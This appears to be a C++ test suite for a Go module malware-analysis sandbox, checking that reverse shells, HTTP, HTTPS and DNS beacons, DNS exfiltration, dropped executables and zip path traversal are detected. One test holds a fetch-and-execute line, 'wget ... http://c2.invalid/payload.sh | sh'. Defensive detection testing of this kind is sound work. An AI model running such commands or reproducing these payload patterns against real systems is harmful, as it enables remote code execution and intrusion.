// Privileged end-to-end tests of `gosandbox analyze`: a file:// GOPROXY is built from the
// fixture modules in tests/fixtures/modules and from real Debian Go sources, then the real
// binary analyses them in real jails. Every report is validated against the schema.
#include <dirent.h>
#include <gtest/gtest.h>
#include <sys/resource.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <set>
#include <thread>

#include "base/fs.h"
#include "goproxy.h"
#include "hostcmd.h"
#include "jail.h"
#include "privileged.h"
#include "schema_lite.h"

namespace gs::harness {
namespace {
namespace fs = std::filesystem;

const std::string kFixtures = std::string(GS_SOURCE_DIR) + "/tests/fixtures/modules";
const std::string kGosandbox = std::string(GS_BINARY_DIR) + "/harness/gosandbox";
const char* kDebianSrc = "/usr/share/gocode/src";

struct AnalyzeRun {
  int exit_code = -1;
  std::string out, err;
  nlohmann::json report;
};

class Analyze : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    root_ = fs::temp_directory_path() / ("gs-analyze-test-" + std::to_string(::getpid()));
    proxy_ = (root_ / "proxy").string();
    for (const char* m : {"initgoroutine", "testonly", "cmdonly", "broken", "hangtest", "flood", "partial",
                          "shloader", "dropexec", "memfdexec", "revshell", "httpbeacon",
                          "httpsbeacon", "dnspoll", "dnsexfil", "loopbacktests", "withdep", "localreplace"}) {
      auto st = testsupport::add_to_proxy(proxy_, kFixtures + "/" + m, std::string("example.test/") + m, "v1.0.0");
      ASSERT_TRUE(st.ok()) << st.error().message();
    }
    for (const char* m : {"github.com/google/uuid", "github.com/pkg/errors"}) {
      auto st = testsupport::add_to_proxy(proxy_, std::string(kDebianSrc) + "/" + m, m, "v1.0.0");
      ASSERT_TRUE(st.ok()) << st.error().message();
    }
  }
  static void TearDownTestSuite() {
    if (!root_.empty()) (void)remove_tree(root_.string());
  }
  void SetUp() override { GS_REQUIRE_ROOT(); }

  AnalyzeRun analyze(const std::string& name, std::vector<std::string> args) {
    AnalyzeRun r;
    std::string out = (root_ / ("out-" + name)).string();
    HostCommand cmd;
    cmd.argv = {kGosandbox, "analyze"};
    cmd.argv.insert(cmd.argv.end(), args.begin(), args.end());
    for (std::string a : {std::string("--out"), out, std::string("--goproxy"), "file://" + proxy_})
      cmd.argv.push_back(a);
    cmd.env = {{"PATH", "/usr/local/bin:/usr/bin:/bin"}, {"HOME", root_.string()}};
    cmd.cwd = root_.string();
    cmd.timeout = std::chrono::seconds(600);
    cmd.scratch_dir = root_.string();
    auto res = run_host_command(cmd);
    EXPECT_TRUE(res.ok());
    if (!res.ok()) return r;
    r.exit_code = res->exit_code;
    r.out = res->out;
    r.err = res->err;
    if (auto text = read_file(out + "/report.json"); text) {
      r.report = nlohmann::json::parse(*text);
      static const auto schema =
          nlohmann::json::parse(*read_file(std::string(GS_SOURCE_DIR) + "/docs/report.schema.json"));
      auto errs = testsupport::validate(schema, r.report);
      EXPECT_TRUE(errs.empty()) << name << ": " << errs.front();
    }
    return r;
  }

  static std::vector<nlohmann::json> phases(const AnalyzeRun& r, const std::string& name) {
    std::vector<nlohmann::json> out;
    for (const auto& p : r.report["phases"])
      if (p["name"] == name) out.push_back(p);
    return out;
  }

  static inline fs::path root_;
  static inline std::string proxy_;
};

TEST_F(Analyze, RealBenignModuleWithTestsThroughFileProxy) {
  AnalyzeRun r = analyze("uuid", {"github.com/google/uuid@v1.0.0", "--window", "1"});
  ASSERT_EQ(r.exit_code, 0) << r.err << r.out;
  EXPECT_EQ(r.report["verdict"], "clean");
  EXPECT_EQ(r.report["module"]["source"], "proxy");
  EXPECT_TRUE(r.report["module"]["sum"].get<std::string>().starts_with("h1:"));
  EXPECT_EQ(r.report["module"]["zip_sha256"].get<std::string>().size(), 64u);
  for (const char* name : {"fetch", "plan", "build", "init", "test"}) {
    auto ps = phases(r, name);
    ASSERT_FALSE(ps.empty()) << name;
    for (const auto& p : ps) EXPECT_EQ(p["status"], "ok") << name << " " << p.dump();
  }
  EXPECT_NE(phases(r, "test")[0]["stdout_tail"].get<std::string>().find("PASS"), std::string::npos);
  EXPECT_EQ(phases(r, "run")[0]["status"], "skipped");
  EXPECT_NE(r.out.find("verdict:   CLEAN"), std::string::npos) << r.out;
  EXPECT_TRUE(r.report["network"]["connections"].empty()) << r.report["network"].dump();
  EXPECT_TRUE(r.report["network"]["beacons"].empty());
}

TEST_F(Analyze, InitGoroutineKeepsRunningForTheWindow) {
  AnalyzeRun r = analyze("initgoroutine", {"example.test/initgoroutine@v1.0.0", "--window", "2"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto init = phases(r, "init");
  ASSERT_EQ(init.size(), 1u);
  EXPECT_EQ(init[0]["status"], "ok");
  // The goroutine prints every 200 ms: a runner that returned at once would show ~1 tick.
  EXPECT_NE(init[0]["stdout_tail"].get<std::string>().find("GOSANDBOX-TICK 6"), std::string::npos)
      << init[0]["stdout_tail"];
  EXPECT_GE(init[0]["duration_ms"].get<int>(), 2000);
}

TEST_F(Analyze, TestOnlyBehaviourRunsInTheJail) {
  ::unlink("/tmp/testonly-marker");
  AnalyzeRun r = analyze("testonly", {"example.test/testonly@v1.0.0", "--window", "1"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto t = phases(r, "test");
  ASSERT_EQ(t.size(), 1u);
  EXPECT_EQ(t[0]["status"], "ok");
  EXPECT_NE(t[0]["stdout_tail"].get<std::string>().find("GOSANDBOX-TESTONLY-MARKER"), std::string::npos);
  // The test wrote /tmp/testonly-marker: in the jail's private /tmp, not the host's.
  EXPECT_FALSE(fs::exists("/tmp/testonly-marker"));
}

TEST_F(Analyze, CommandOnlyBehaviourRunsForTheWindow) {
  AnalyzeRun r = analyze("cmdonly", {"example.test/cmdonly@v1.0.0", "--window", "2"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto run = phases(r, "run");
  ASSERT_EQ(run.size(), 1u);
  EXPECT_EQ(run[0]["target"], "example.test/cmdonly/cmd/hello");
  EXPECT_EQ(run[0]["status"], "ok");
  EXPECT_NE(run[0]["stdout_tail"].get<std::string>().find("GOSANDBOX-CMDONLY-MARKER"), std::string::npos);
  EXPECT_EQ(phases(r, "init")[0]["status"], "skipped");
}

TEST_F(Analyze, ModuleThatDoesNotCompileIsAnError) {
  AnalyzeRun r = analyze("broken", {"example.test/broken@v1.0.0", "--window", "1"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.report["verdict"], "error");
  EXPECT_NE(r.report["error"].get<std::string>().find("does not build"), std::string::npos);
  EXPECT_NE(r.err.find("undefinedSymbol"), std::string::npos) << r.err;
  EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << r.err;
}

TEST_F(Analyze, BrokenPackageDoesNotHideInitOfTheOthers) {
  AnalyzeRun r = analyze("partial", {"example.test/partial@v1.0.0", "--window", "1"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto init = phases(r, "init");
  ASSERT_EQ(init.size(), 1u);
  EXPECT_EQ(init[0]["status"], "ok");
  EXPECT_NE(init[0]["stdout_tail"].get<std::string>().find("GOSANDBOX-PARTIAL-INIT"), std::string::npos);
  EXPECT_EQ(phases(r, "test")[0]["status"], "ok");
}

// Dependencies come from the proxy through the host's download; a replace directive to a
// directory is not followed there (the host would read where a hostile go.mod points),
// and the build in the jail, where that directory is not, says so.
TEST_F(Analyze, DependenciesComeFromTheProxyAndLocalReplacesStayInTheJail) {
  AnalyzeRun ok = analyze("withdep", {"example.test/withdep@v1.0.0", "--window", "1", "--phases", "build,init"});
  ASSERT_EQ(ok.exit_code, 0) << ok.err << ok.out;
  EXPECT_TRUE(phases(ok, "fetch")[0]["note"].is_null()) << phases(ok, "fetch")[0].dump();
  EXPECT_EQ(phases(ok, "init")[0]["status"], "ok");
  AnalyzeRun rep = analyze("localreplace", {"example.test/localreplace@v1.0.0", "--window", "1", "--phases", "build,init"});
  auto fetch = phases(rep, "fetch")[0];
  EXPECT_EQ(fetch["status"], "ok");
  EXPECT_NE(fetch["note"].get<std::string>().find(
                "replace directives to local directories not followed: example.test/initgoroutine => "),
            std::string::npos)
      << fetch.dump();
  EXPECT_EQ(rep.report["verdict"], "error");
  EXPECT_NE(rep.report["error"].get<std::string>().find("does not build"), std::string::npos) << rep.report["error"];
}

TEST_F(Analyze, HangingTestTimesOutAndTheAnalysisFinishes) {
  AnalyzeRun r = analyze("hangtest", {"example.test/hangtest@v1.0.0", "--window", "1", "--test-timeout", "3"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto t = phases(r, "test");
  ASSERT_EQ(t.size(), 1u);
  EXPECT_EQ(t[0]["status"], "timeout");
  EXPECT_LT(t[0]["duration_ms"].get<int>(), 20000);
}

TEST_F(Analyze, OutputFloodIsTruncatedWithoutMemoryBlowUp) {
  AnalyzeRun r = analyze("flood", {"example.test/flood@v1.0.0", "--window", "2", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto init = phases(r, "init");
  ASSERT_EQ(init.size(), 1u);
  EXPECT_TRUE(init[0]["truncated"].get<bool>());
  EXPECT_LE(init[0]["stdout_tail"].get<std::string>().size(), 8192u);
  EXPECT_NE(init[0]["stdout_tail"].get<std::string>().find("GOSANDBOX-FLOOD"), std::string::npos);
  struct rusage ru {};
  getrusage(RUSAGE_CHILDREN, &ru);
  EXPECT_LT(ru.ru_maxrss, 512 * 1024) << "max RSS of a child in KiB";
}

TEST_F(Analyze, LocalDirectoryAndZipTargets) {
  AnalyzeRun d = analyze("dir", {kFixtures + "/testonly", "--window", "1"});
  ASSERT_EQ(d.exit_code, 0) << d.err;
  EXPECT_EQ(d.report["module"]["source"], "dir");
  EXPECT_EQ(d.report["module"]["path"], "example.test/testonly");

  // The same zip through the proxy (hashed by Go) and as a file (hashed by us).
  std::string zip = proxy_ + "/example.test/testonly/@v/v1.0.0.zip";
  AnalyzeRun z = analyze("zip", {zip, "--window", "1"});
  AnalyzeRun p = analyze("zip-proxy", {"example.test/testonly@v1.0.0", "--phases", "build"});
  ASSERT_EQ(z.exit_code, 0) << z.err;
  EXPECT_EQ(z.report["module"]["source"], "zip");
  EXPECT_EQ(z.report["module"]["version"], "v1.0.0");
  EXPECT_EQ(z.report["module"]["sum"], p.report["module"]["sum"]);
  EXPECT_EQ(z.report["module"]["zip_sha256"], p.report["module"]["zip_sha256"]);
}

TEST_F(Analyze, BadInputGetsOneLineErrors) {
  auto one_line = [](const AnalyzeRun& r) { return std::count(r.err.begin(), r.err.end(), '\n') == 1; };
  AnalyzeRun unknown = analyze("unknown", {"example.test/nosuchmodule@v1.0.0"});
  EXPECT_EQ(unknown.exit_code, 1);
  EXPECT_TRUE(one_line(unknown)) << unknown.err;
  EXPECT_EQ(unknown.report["verdict"], "error");
  AnalyzeRun badver = analyze("badver", {"example.test/testonly@v9.9.9"});
  EXPECT_EQ(badver.exit_code, 1);
  EXPECT_TRUE(one_line(badver)) << badver.err;

  AnalyzeRun malformed = analyze("malformed", {"not a target"});
  EXPECT_EQ(malformed.exit_code, 2);

  std::string corrupt = (root_ / "corrupt.zip").string();
  ASSERT_TRUE(write_file_atomic(corrupt, "PK\x03\x04 this is not really a zip").ok());
  AnalyzeRun c = analyze("corrupt", {corrupt});
  EXPECT_EQ(c.exit_code, 1);
  EXPECT_TRUE(one_line(c)) << c.err;
  EXPECT_NE(c.err.find("bad module zip"), std::string::npos) << c.err;

  std::string evil = (root_ / "evil.zip").string();
  ASSERT_TRUE(write_file_atomic(evil, testsupport::make_zip({{"example.test/e@v1.0.0/go.mod", "module example.test/e\n"},
                                                              {"example.test/e@v1.0.0/../../../tmp/pwned", "x"}}))
                  .ok());
  AnalyzeRun e = analyze("evil", {evil});
  EXPECT_EQ(e.exit_code, 1);
  EXPECT_NE(e.err.find("'..'"), std::string::npos) << e.err;
  EXPECT_FALSE(fs::exists("/tmp/pwned"));

  fs::create_directories(root_ / "notamodule");
  AnalyzeRun nm = analyze("notamodule", {(root_ / "notamodule").string()});
  EXPECT_EQ(nm.exit_code, 1);
  EXPECT_NE(nm.err.find("no go.mod"), std::string::npos) << nm.err;
}

// `gosandbox analyze ARGS --goproxy <fixtures> --out OUT` in the background, quiet.
pid_t start_analysis(std::vector<std::string> args, const std::string& proxy, const std::string& out) {
  args.insert(args.end(), {"--goproxy", "file://" + proxy, "--out", out});
  pid_t pid = ::fork();
  if (pid != 0) return pid;
  int devnull = ::open("/dev/null", O_WRONLY);
  ::dup2(devnull, 1);
  ::dup2(devnull, 2);
  std::vector<char*> argv{const_cast<char*>("gosandbox"), const_cast<char*>("analyze")};
  for (auto& a : args) argv.push_back(a.data());
  argv.push_back(nullptr);
  ::execv(kGosandbox.c_str(), argv.data());
  ::_exit(127);
}

// Whether a process whose argv[0] ends with `suffix` showed up within `seconds`.
bool wait_for_program(const std::string& suffix, int seconds) {
  for (int i = 0; i < seconds * 10; ++i) {
    ::usleep(100'000);
    for (const auto& e : fs::directory_iterator("/proc")) {
      std::ifstream cmdline(e.path() / "cmdline");
      std::string s;
      std::getline(cmdline, s, '\0');
      if (s.ends_with(suffix)) return true;
    }
  }
  return false;
}

TEST_F(Analyze, InterruptedAnalysisStillReportsAndCleansUp) {
  std::string out = (root_ / "out-interrupted").string();
  pid_t pid = start_analysis({"example.test/cmdonly@v1.0.0", "--window", "60"}, proxy_, out);
  ASSERT_GE(pid, 0);
  // Wait until the command is running in its jail, then interrupt like Ctrl-C would.
  ASSERT_TRUE(wait_for_program("example.test_cmdonly_cmd_hello", 30));
  ::kill(pid, SIGINT);
  int status = 0;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  EXPECT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 1);
  auto report = nlohmann::json::parse(*read_file(out + "/report.json"));
  EXPECT_EQ(report["verdict"], "error");
  EXPECT_NE(report["error"].get<std::string>().find("interrupted"), std::string::npos);
}

// SIGTERM is what a batch budget sends: a beacon seen before it is still a beacon.
TEST_F(Analyze, InterruptedAnalysisKeepsTheEvidenceItSaw) {
  std::string out = (root_ / "out-interrupted-beacon").string();
  pid_t pid = start_analysis({"example.test/httpbeacon@v1.0.0", "--window", "60", "--phases", "init"}, proxy_, out);
  ASSERT_GE(pid, 0);
  ASSERT_TRUE(wait_for_program("/initrunner", 60));
  ::sleep(4);  // a few of its ~800 ms beacons
  ::kill(pid, SIGTERM);
  int status = 0;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  ASSERT_TRUE(WIFEXITED(status));
  auto report = nlohmann::json::parse(*read_file(out + "/report.json"));
  // a few seconds of beacons: at least the connection from init (a beacon series needs more)
  EXPECT_TRUE(report["verdict"] == "suspicious" || report["verdict"] == "malicious") << report.dump(1);
  EXPECT_EQ(WEXITSTATUS(status), report["verdict"] == "malicious" ? 4 : 3);
  EXPECT_NE(report["error"].get<std::string>().find("interrupted by signal 15"), std::string::npos);
  bool connected = false;
  for (const auto& f : report["findings"]) connected |= f["rule"] == "network-in-init";
  EXPECT_TRUE(connected) << report["findings"].dump();
  bool init_stopped = false;
  for (const auto& p : report["phases"]) {
    if (p["name"] == "init")
      init_stopped = p["status"] == "error" && p["note"].get<std::string>().find("interrupted") != std::string::npos;
  }
  EXPECT_TRUE(init_stopped) << report["phases"].dump();
}

const nlohmann::json* find_process(const nlohmann::json& report, const std::function<bool(const nlohmann::json&)>& pred) {
  for (const auto& p : report["processes"])
    if (pred(p)) return &p;
  return nullptr;
}

const nlohmann::json* process_by_id(const nlohmann::json& report, const nlohmann::json& id) {
  return find_process(report, [&](const nlohmann::json& p) { return p["id"] == id; });
}

TEST_F(Analyze, TracedShellLoaderShowsTheProcessChain) {
  AnalyzeRun r = analyze("shloader", {"example.test/shloader@v1.0.0", "--window", "1", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  EXPECT_TRUE(r.report["trace"]["present"].get<bool>());
  EXPECT_TRUE(r.report["trace"]["complete"].get<bool>());
  const auto* sh = find_process(r.report, [](const nlohmann::json& p) {
    return p["exe"] == "/bin/sh" && p["argv"].size() == 3 && p["argv"][1] == "-c" &&
           p["argv"][2].get<std::string>().find("wget -q -O - http://c2.invalid/payload.sh | sh") != std::string::npos;
  });
  ASSERT_NE(sh, nullptr) << r.report["processes"].dump(1);
  EXPECT_EQ((*sh)["phase"], "init");
  const auto* parent = process_by_id(r.report, (*sh)["parent"]);
  ASSERT_NE(parent, nullptr);
  EXPECT_TRUE((*parent)["exe"].get<std::string>().ends_with("/initrunner")) << parent->dump();
  // The pipeline's right-hand `sh` is a child of the `sh -c`.
  const auto* child = find_process(r.report, [&](const nlohmann::json& p) {
    return p["parent"] == (*sh)["id"] && p["exe"].get<std::string>().ends_with("sh");
  });
  EXPECT_NE(child, nullptr) << r.report["processes"].dump(1);
}

TEST_F(Analyze, WrittenThenExecutedFileIsRecognisable) {
  AnalyzeRun r = analyze("dropexec", {"example.test/dropexec@v1.0.0", "--window", "1", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  std::set<std::string> ops;
  for (const auto& f : r.report["files"])
    if (f["path"] == "/tmp/gosandbox-dropped.sh")
      for (const auto& op : f["ops"]) ops.insert(op);
  for (const char* op : {"create", "write", "chmod", "exec", "delete"})
    EXPECT_TRUE(ops.count(op)) << op << " missing; files: " << r.report["files"].dump(1);
  EXPECT_NE(find_process(r.report, [](const nlohmann::json& p) { return p["exe"] == "/tmp/gosandbox-dropped.sh"; }),
            nullptr);
}

TEST_F(Analyze, MemfdExecutionIsRecorded) {
  AnalyzeRun r = analyze("memfdexec", {"example.test/memfdexec@v1.0.0", "--window", "1", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  // run as /proc/self/fd/N: the process names the memfd behind it
  const auto* p = find_process(r.report, [](const nlohmann::json& p) {
    return p["exe"].get<std::string>().starts_with("memfd:") && !p["argv"].empty();
  });
  ASSERT_NE(p, nullptr) << r.report["processes"].dump(1);
  // events.jsonl keeps the full exec record, with the memfd behind the fd.
  std::ifstream events((root_ / "out-memfdexec" / "events.jsonl").string());
  bool memfd_exec = false;
  for (std::string line; std::getline(events, line);) {
    auto j = nlohmann::json::parse(line);
    if (j["type"] == "exec" && j.dump().find("memfd:payload") != std::string::npos) memfd_exec = true;
  }
  EXPECT_TRUE(memfd_exec);
  EXPECT_EQ(r.report["artifacts"]["events"], "events.jsonl");
}

TEST_F(Analyze, NoTraceSaysTheTraceIsAbsent) {
  AnalyzeRun r = analyze("notrace", {"example.test/initgoroutine@v1.0.0", "--window", "1", "--no-trace"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_FALSE(r.report["trace"]["present"].get<bool>());
  EXPECT_TRUE(r.report["processes"].empty());
  EXPECT_NE(r.out.find("trace:     absent"), std::string::npos) << r.out;
}

TEST_F(Analyze, ReverseShellLoopIsABeaconToItsAddress) {
  AnalyzeRun r = analyze("revshell", {"example.test/revshell@v1.0.0", "--window", "6", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  const auto& net = r.report["network"];
  ASSERT_EQ(net["connections"].size(), 1u) << net.dump(1) << r.out;
  EXPECT_EQ(net["connections"][0]["dst_ip"], "203.0.113.10");
  EXPECT_EQ(net["connections"][0]["dst_port"], 4444);
  EXPECT_GE(net["connections"][0]["attempts"].get<int>(), 4);
  EXPECT_GT(net["connections"][0]["bytes_out"].get<int>(), 0);
  ASSERT_EQ(net["beacons"].size(), 1u) << net.dump(1);
  const auto& b = net["beacons"][0];
  EXPECT_EQ(b["destination"], "203.0.113.10:4444");
  EXPECT_NEAR(b["median_interval_ms"].get<double>(), 1100, 300);
  EXPECT_GE(b["score"].get<double>(), 0.7);
  EXPECT_EQ(b["kind"], "beacon");
  // The capture is a real pcap that tshark reads.
  std::string pcap = (root_ / "out-revshell" / "capture.pcap").string();
  EXPECT_EQ(r.report["artifacts"]["pcap"], "capture.pcap");
  HostCommand tshark{{"tshark", "-r", pcap, "-Y", "tcp.dstport == 4444 && tcp.flags.syn == 1 && tcp.flags.ack == 0"},
                     {{"PATH", "/usr/bin:/bin"}, {"HOME", root_.string()}}, root_.string(), std::chrono::seconds(60),
                     root_.string()};
  auto t = run_host_command(tshark);
  ASSERT_TRUE(t.ok());
  EXPECT_EQ(t->exit_code, 0) << t->err;
  EXPECT_GE(std::count(t->out.begin(), t->out.end(), '\n'), 4) << t->out;
}

TEST_F(Analyze, JitteredHttpBeaconIsFoundByName) {
  AnalyzeRun r = analyze("httpbeacon", {"example.test/httpbeacon@v1.0.0", "--window", "6", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  const auto& net = r.report["network"];
  ASSERT_EQ(net["beacons"].size(), 1u) << net.dump(1);
  const auto& b = net["beacons"][0];
  EXPECT_EQ(b["destination"], "update.c2.test");
  EXPECT_GE(b["attempts"].get<int>(), 5);
  EXPECT_GT(b["jitter"].get<double>(), 0.0);
  EXPECT_GE(b["score"].get<double>(), 0.7);
  ASSERT_FALSE(net["connections"].empty());
  EXPECT_EQ(net["connections"][0]["hostname"], "update.c2.test");
  EXPECT_EQ(net["connections"][0]["http"]["path"], "/check?id=42");
  bool asked = false;
  for (const auto& q : net["dns"]) asked = asked || (q["name"] == "update.c2.test" && q["type"] == "A");
  EXPECT_TRUE(asked) << net["dns"].dump();
}

const nlohmann::json* beacon_to(const nlohmann::json& report, const std::string& destination) {
  for (const auto& b : report["network"]["beacons"])
    if (b["destination"] == destination) return &b;
  return nullptr;
}

TEST_F(Analyze, HttpsBeaconIsFoundBySni) {
  AnalyzeRun r = analyze("httpsbeacon", {"example.test/httpsbeacon@v1.0.0", "--window", "5", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  const auto& net = r.report["network"];
  ASSERT_EQ(net["connections"].size(), 1u) << net.dump(1);
  EXPECT_EQ(net["connections"][0]["tls_sni"], "secure.c2.test");
  EXPECT_EQ(net["connections"][0]["dst_port"], 443);
  const auto* b = beacon_to(r.report, "secure.c2.test:443");
  ASSERT_NE(b, nullptr) << net["beacons"].dump(1);
  EXPECT_GE((*b)["attempts"].get<int>(), 5);
  EXPECT_GE((*b)["score"].get<double>(), 0.7);
}

TEST_F(Analyze, DnsTxtPollingIsABeaconOfLookups) {
  AnalyzeRun r = analyze("dnspoll", {"example.test/dnspoll@v1.0.0", "--window", "5", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  const auto& net = r.report["network"];
  EXPECT_TRUE(net["connections"].empty()) << net.dump(1);
  ASSERT_EQ(net["dns"].size(), 1u) << net.dump(1);
  EXPECT_EQ(net["dns"][0]["name"], "cmd.c2.test");
  EXPECT_EQ(net["dns"][0]["type"], "TXT");
  EXPECT_GE(net["dns"][0]["count"].get<int>(), 5);
  const auto* b = beacon_to(r.report, "dns:cmd.c2.test");
  ASSERT_NE(b, nullptr) << net["beacons"].dump(1);
  EXPECT_GE((*b)["score"].get<double>(), 0.7);
  EXPECT_NEAR((*b)["median_interval_ms"].get<double>(), 700, 250);
}

TEST_F(Analyze, DnsLabelExfiltrationIsLogged) {
  AnalyzeRun r = analyze("dnsexfil", {"example.test/dnsexfil@v1.0.0", "--window", "2", "--phases", "init"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  std::set<std::string> names;
  for (const auto& q : r.report["network"]["dns"]) {
    if (!q["name"].get<std::string>().ends_with(".exfil.test")) continue;
    names.insert(q["name"]);
    EXPECT_GE(q["longest_label"].get<int>(), 48);
    EXPECT_GE(q["entropy"].get<double>(), 2.5);  // hex of text: ~2.8-3.9 bits per char
  }
  EXPECT_EQ(names.size(), 3u) << r.report["network"]["dns"].dump(1);
}

TEST_F(Analyze, LoopbackTestServersAreNotOutbound) {
  AnalyzeRun r = analyze("loopbacktests", {"example.test/loopbacktests@v1.0.0", "--window", "1"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(phases(r, "test")[0]["status"], "ok");
  EXPECT_TRUE(r.report["network"]["connections"].empty()) << r.report["network"].dump(1);
  EXPECT_TRUE(r.report["network"]["beacons"].empty());
  EXPECT_TRUE(r.report["network"]["dns"].empty());
}

TEST_F(Analyze, NetworkNoneKeepsLoopbackOnly) {
  AnalyzeRun r = analyze("revshell-none", {"example.test/revshell@v1.0.0", "--window", "3", "--phases", "init",
                                           "--network", "none"});
  ASSERT_EQ(r.exit_code, 4) << r.err << r.out;  // judged malicious
  EXPECT_EQ(r.report["verdict"], "malicious");
  const auto& net = r.report["network"];
  EXPECT_EQ(net["mode"], "none");
  ASSERT_EQ(net["connections"].size(), 1u) << net.dump(1);
  // Attempts are still seen by the tracer, and every one failed.
  EXPECT_EQ(net["connections"][0]["failed"], net["connections"][0]["attempts"]);
  EXPECT_TRUE(r.report["artifacts"]["pcap"].is_null());
}

// Runs last (gtest keeps declaration order within a suite): nothing of any run remains.
// The standard library is compiled once per host: two analyses racing on an empty cache
// root build it once (one builds, the other waits and copies), a later one copies it, and
// no analysis changes the shared copy, which stays root's.
TEST_F(Analyze, SharedStdCacheIsBuiltOnceAndNeverWritten) {
  const std::string cache = (root_ / "stdcache").string();
  auto state = [](const AnalyzeRun& r) {
    return r.report["environment"].value("build_cache", nlohmann::json::object()).value("state", "");
  };
  AnalyzeRun a, b;
  std::thread ta([&] { a = analyze("cache-a", {"github.com/pkg/errors@v1.0.0", "--phases", "build", "--cache-dir", cache}); });
  std::thread tb([&] { b = analyze("cache-b", {"github.com/google/uuid@v1.0.0", "--phases", "build", "--cache-dir", cache}); });
  ta.join();
  tb.join();
  ASSERT_EQ(a.exit_code, 0) << a.err;
  ASSERT_EQ(b.exit_code, 0) << b.err;
  std::multiset<std::string> states{state(a), state(b)};
  EXPECT_EQ(states, (std::multiset<std::string>{"built", "warm"}))
      << a.report["environment"].dump() << b.report["environment"].dump();
  std::vector<fs::path> shared;
  for (const auto& e : fs::directory_iterator(cache))
    if (e.is_directory()) shared.push_back(e.path());
  ASSERT_EQ(shared.size(), 1u) << "one toolchain, one shared cache, no temporary left";
  auto snapshot = [&] {
    std::map<std::string, std::string> files;
    for (const auto& e : fs::recursive_directory_iterator(shared[0])) {
      struct stat st{};
      EXPECT_EQ(::lstat(e.path().c_str(), &st), 0);
      EXPECT_EQ(st.st_uid, 0u) << e.path();
      EXPECT_EQ(st.st_mode & 0022, 0u) << e.path();
      if (e.is_regular_file()) files[e.path().string()] = *read_file(e.path().string());
    }
    return files;
  };
  auto before = snapshot();
  EXPECT_GT(before.size(), 100u);
  AnalyzeRun c = analyze("cache-c", {"github.com/google/uuid@v1.0.0", "--phases", "build,test", "--window", "1",
                                     "--cache-dir", cache});
  ASSERT_EQ(c.exit_code, 0) << c.err;
  EXPECT_EQ(state(c), "warm") << c.report["environment"].dump();
  for (const auto& p : phases(c, "build")) EXPECT_EQ(p["status"], "ok") << p.dump();
  EXPECT_EQ(snapshot(), before);
  AnalyzeRun off = analyze("cache-off", {"github.com/pkg/errors@v1.0.0", "--phases", "build", "--cache-dir", "none"});
  ASSERT_EQ(off.exit_code, 0) << off.err;
  EXPECT_EQ(state(off), "off");
}

TEST_F(Analyze, NothingIsLeftBehind) {
  std::ifstream mounts("/proc/self/mountinfo");
  for (std::string line; std::getline(mounts, line);)
    EXPECT_EQ(line.find("gosandbox-run-"), std::string::npos) << line;
  // Names carry the creating gosandbox's pid: anything of a pid that is gone is left over.
  // (A live pid is another analysis running right now on a developer's machine.)
  auto of_dead_process = [](const std::string& name, const std::string& prefix) {
    if (!name.starts_with(prefix)) return false;
    pid_t pid = std::atoi(name.c_str() + prefix.size());
    return pid <= 0 || (::kill(pid, 0) != 0 && errno == ESRCH);
  };
  for (const auto& e : fs::directory_iterator(fs::temp_directory_path()))
    EXPECT_FALSE(of_dead_process(e.path().filename().string(), "gosandbox-run-")) << e.path();
  for (const char* cg : {"/sys/fs/cgroup/unified/gosandbox", "/sys/fs/cgroup/gosandbox",
                         "/sys/fs/cgroup/memory/gosandbox", "/sys/fs/cgroup/pids/gosandbox"}) {
    if (!fs::exists(cg)) continue;
    for (const auto& e : fs::directory_iterator(cg)) {
      if (e.is_directory()) {
        EXPECT_FALSE(of_dead_process(e.path().filename().string(), "jail-")) << e.path();
      }
    }
  }
  for (const auto& e : fs::directory_iterator("/proc")) {
    std::ifstream st(e.path() / "status");
    std::string line;
    while (std::getline(st, line)) {
      if (!line.starts_with("Uid:")) continue;
      unsigned long uid = std::stoul(line.substr(4));
      EXPECT_LT(uid, sandbox::kHostIdBase) << "jail process left: " << e.path();
    }
  }
}

}  // namespace
}  // namespace gs::harness
